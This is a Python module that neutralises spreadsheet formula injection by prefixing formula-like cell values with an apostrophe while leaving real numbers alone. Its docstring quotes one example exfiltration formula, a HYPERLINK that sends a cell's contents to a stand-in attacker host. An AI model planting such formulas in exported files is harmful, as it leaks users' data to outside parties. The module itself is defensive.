"""Cells a spreadsheet would run as a formula, made inert before they leave in a CSV or XLSX file.

A cell starting with "=", "+", "-", "@", a tab or a carriage return is read by Excel and LibreOffice
as a formula (=HYPERLINK("http://evil.example/?d="&A1) sends the sheet away). Such a cell gets a
leading apostrophe, which the spreadsheet shows as text; a real number ("-12,5", "+3") is left
alone so a column of figures still sums.
"""

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[+-]?\d[\d.,]*%?$")


def neutralise(value):
    """`value` as safe cell content: non-strings pass through, formula-like strings get a "'"."""
    if not isinstance(value, str) or not value.startswith(FORMULA_START):
        return value
    if NUMBER.match(value):
        return value
    return "'" + value
